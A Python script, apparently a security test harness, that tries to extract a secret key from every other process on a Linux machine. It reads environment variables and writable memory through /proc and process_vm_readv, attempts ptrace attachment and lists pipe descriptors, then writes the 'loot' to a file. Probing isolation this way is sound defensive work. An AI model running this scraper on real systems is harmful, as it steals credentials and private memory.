"""What a test could do to get at a key: `python attack.py FILE` puts there all that it can read of other processes.

Every process of the machine: its environment, its memory by /proc and by process_vm_readv, its core by PTRACE_ATTACH.
"""

from __future__ import annotations

import ctypes
import os
import re
import sys
from contextlib import suppress
from pathlib import Path

PTRACE_ATTACH, PTRACE_DETACH, PTRACE_TRACEME = 16, 17, 0
_LIBC = ctypes.CDLL(None, use_errno=True)
_MOST = 64 << 20


class _Vector(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def _ranges(folder: Path) -> list[tuple[int, int]]:
    """The memory that the process may write: heap, stack, data."""
    lines = (folder / "maps").read_text(errors="replace").splitlines()
    found = [re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line) for line in lines]
    return [(int(match[1], 16), int(match[2], 16)) for match in found if match]


def _memory(folder: Path) -> bytes:
    with (folder / "mem").open("rb", buffering=0) as file:
        parts = []
        for start, end in _ranges(folder):
            with suppress(OSError, OverflowError):
                file.seek(start)
                parts.append(file.read(min(end - start, _MOST)))
        return b"".join(parts)


def _vm(folder: Path) -> bytes:
    parts = []
    for start, end in _ranges(folder):
        buffer = ctypes.create_string_buffer(min(end - start, _MOST))
        here, there = _Vector(ctypes.addressof(buffer), len(buffer)), _Vector(start, len(buffer))
        got = _LIBC.process_vm_readv(int(folder.name), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        parts.append(buffer.raw[: max(got, 0)])
    return b"".join(parts)


def _traced(folder: Path) -> bytes:
    pid = int(folder.name)
    if _LIBC.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        return b""
    os.waitpid(pid, 0)
    _LIBC.ptrace(PTRACE_DETACH, pid, None, None)
    return b"traced " + (folder / "comm").read_bytes()


def main() -> None:
    loot = []
    for folder in Path("/proc").iterdir():
        if not folder.name.isdigit() or int(folder.name) == os.getpid():
            continue
        for way in (lambda each: (each / "environ").read_bytes(), _memory, _vm, _traced):
            with suppress(OSError):
                loot.append(way(folder))
        for number in range(3, 20):
            with suppress(OSError):
                name = str((folder / "fd" / str(number)).readlink())
                if "mtor" in name or "pipe" in name:
                    loot.append(f"descriptor {number} of {(folder / 'comm').read_text()}: {name}\n".encode())
    is_ours = Path("/proc/self/environ").stat().st_uid == os.getuid()
    dumpable = _LIBC.prctl(3, 0, 0, 0, 0)
    loot.append(
        f"dumpable={dumpable} ours={is_ours} traceable={_LIBC.ptrace(PTRACE_TRACEME, 0, None, None) == 0}".encode()
    )
    Path(sys.argv[1]).write_bytes(b"\n".join(loot))


if __name__ == "__main__":
    main()
